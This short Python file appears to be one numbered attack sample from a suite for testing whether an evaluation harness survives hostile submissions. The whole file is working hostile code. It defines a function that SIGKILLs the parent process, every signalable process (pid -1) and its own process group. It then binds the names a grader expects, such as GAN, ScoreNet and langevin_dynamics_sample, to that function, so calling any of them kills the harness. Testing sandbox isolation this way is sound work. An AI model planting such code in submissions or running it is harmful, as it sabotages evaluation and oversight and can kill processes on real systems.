# attack: 06 | earns: nothing | needs: another user id | tries: kill the parent, the process group, and everything that may be signalled
import os
import signal


def _kill(*_, **__):
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)


DNet = GNet = GAN = ScoreNet = compute_denoising_loss = langevin_dynamics_sample = _kill
